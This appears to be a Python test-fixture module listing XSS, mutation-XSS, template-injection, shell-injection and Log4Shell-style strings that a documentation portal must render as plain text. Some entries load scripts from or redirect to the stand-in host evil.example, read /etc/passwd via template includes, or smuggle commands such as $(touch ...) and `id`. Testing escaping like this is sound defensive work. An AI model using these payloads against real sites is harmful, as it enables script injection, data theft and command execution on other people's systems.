"""Texts that would be markup, script or template code somewhere, each for a reason.

`NAME: text` by what it tries. None of them is refused as a text: they must show as written.
"""

from __future__ import annotations

from collections.abc import Mapping

_SCRIPT = "<script>alert(1)</script>"

# Elements and attributes, in the spellings that browsers forgive.
ELEMENTS: Mapping[str, str] = {
    "a script": _SCRIPT,
    "a script in capitals with a space": "<SCRIPT >alert(1)</SCRIPT >",
    "a script that is not closed": "<script>alert(1)//",
    "a script of another host": "<script src=//evil.example/x.js></script>",
    "a script as a module": '<script type="module">alert(1)</script>',
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a handler of an image": "<img src=x onerror=alert(1)>",
    "a handler with a slash for a space": "<img/src=x/onerror=alert(1)>",
    "a handler in a tag that is not closed": "<img src=x onerror=alert(1)//",
    "a handler behind a line feed as entity": "<img src=x onerror&#10;=alert(1)>",
    "a handler behind a double quote": '"><img src=x onerror=alert(1)>',
    "a handler behind a single quote": "'><img src=x onerror=alert(1)>",
    "an attribute behind a double quote": '" onmouseover="alert(1)" x="',
    "an attribute behind a single quote": "' onfocus='alert(1)' autofocus x='",
    "an attribute without quotes": "x onmouseover=alert(1) y",
    "an attribute behind a backtick": "` onmouseover=alert(1) x=`",
    "a handler of SVG": "<svg/onload=alert(1)>",
    "an animation of SVG": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "a use of SVG": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
    "a foreign object": "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "a script in SVG": "<svg><script>alert&#40;1&#41;</script></svg>",
    "a frame with its own document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "a frame with a script address": "<iframe src=javascript:alert(1)></iframe>",
    "an object": "<object data=javascript:alert(1)></object>",
    "an embedded page": "<embed src=//evil.example/x.swf>",
    "a details that opens": "<details open ontoggle=alert(1)>x</details>",
    "a video without a source": "<video><source onerror=alert(1)></video>",
    "an audio element": "<audio src=x onerror=alert(1)>",
    "an input with focus": "<input autofocus onfocus=alert(1)>",
    "a body": "<body onload=alert(1)>",
    "a marquee": "<marquee onstart=alert(1)>x</marquee>",
    "a form": "<form action=//evil.example><button>Log in</button></form>",
    "a button that submits elsewhere": "<button formaction=javascript:alert(1) form=x>OK</button>",
    "a base": "<base href=//evil.example/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "a style sheet": "<style>@import '//evil.example/x.css';</style>",
    "a link to a style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "a style that covers the page": "<div style='position:fixed;inset:0;background:red'>x</div>",
    "a preload": "<link rel=preload as=script href=//evil.example/x.js>",
    "an element with a handler of its own": "<x-y tabindex=1 onfocus=alert(1)>x</x-y>",
    "a dialog": "<dialog open>Your session has ended</dialog>",
}

# What is harmless until a sanitiser or a second parser has been at it.
MUTATIONS: Mapping[str, str] = {
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "math and style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "form in form": (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
        "<img onerror=alert(1) src>'>"
    ),
    "svg and style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "svg and title": "<svg><title><style><img src='</style><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "</textarea><script>alert(1)</script><textarea>",
    "title": "</title><script>alert(1)</script><title>",
    "xmp": "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "select": "<select><template><script>alert(1)</script></template></select>",
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "a comment that ends with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "a processing instruction": "<?xml version='1.0'?><?php system('id') ?>",
    "a document type": "<!DOCTYPE html><html><head>",
    "entities for brackets": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numbers for brackets": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "numbers without semicolons": "&#x3cscript&#x3ealert(1)&#x3c/script&#x3e",
    "entities twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "brackets of full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "a backslash before a bracket": "\\<script>alert(1)\\</script>",
    "percent signs": "%3Cscript%3Ealert(1)%3C/script%3E",
    "the end of the article": "</div></article></main><script>alert(1)</script>",
    "the end of a script that holds JSON": "</script><script>alert(1)</script>",
    "the end of a style": "</style><script>alert(1)</script>",
    "the end of CDATA in a feed": "]]></title><script>alert(1)</script>",
}

# What a template engine, a site generator or a shell would read.
LANGUAGES: Mapping[str, str] = {
    "an expression of Jinja": "{{ 7 * 7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "a statement of Jinja": "{% include '/etc/passwd' %}{% set x = 1 %}",
    "a comment of Jinja": "{# gone #}",
    "a macro of MkDocs": "{{ include_file('/etc/passwd') }}",
    "an attribute list": "x {: onclick=alert(1) #install .selector }",
    "an attribute list on its own line": "{: onclick=alert(1) }",
    "a snippet": '--8<-- "/etc/passwd"',
    "a snippet in a block": "--8<--\n/etc/passwd\n--8<--".replace("\n", " "),
    "an include": "{!/etc/passwd!}",
    "an admonition": '!!! danger "Your session has ended"',
    "a collapsed block": '??? note "x"',
    "a tab": '=== "Linux"',
    "an icon": ":material-account: :octicons-alert-16:",
    "a definition list": ":   a definition",
    "an abbreviation": "*[CUDA]: something else",
    "a footnote": "[^1] [^1]: x",
    "a heading": "# Big",
    "a fence": "~~~",
    "a fence of a diagram": "``` mermaid",
    "a link of Markdown": "[x](javascript:alert(1))",
    "a picture of Markdown": "![x](https://evil.example/x.png)",
    "a raw-HTML mark of the portal": "<!--raw html--><b>x</b><!--end of raw html-->",
    "a raw-HTML place of the portal": '<div data-raw-html="1"></div>',
    "a front matter": "--- title: x ---",
    "a placeholder of Python-Markdown": "wzxhzdk:0 klzzwxh:0000",
    "a template of JavaScript": "${alert(1)} `${alert(1)}`",
    "a template of a framework": "{{constructor.constructor('alert(1)')()}}",
    "a command of a shell": "$(touch /tmp/portal-was-here) `id` ; id | id && id",
    "a format of Python": "{0.__class__} %s %n",
    "a lookup of a logger": "${jndi:dns:evil.example}",
    "a quotation mark and a backslash": "\\\" \\' \\u003cscript\\u003e",
    "a key of JavaScript": "__proto__",
    "a word of JavaScript": "constructor",
    "a reference to nothing": "[@no-such-source]",
}

ALL: Mapping[str, str] = {
    f"{kind}: {name}": text
    for kind, texts in (
        ("element", ELEMENTS),
        ("mutation", MUTATIONS),
        ("language", LANGUAGES),
    )
    for name, text in texts.items()
}
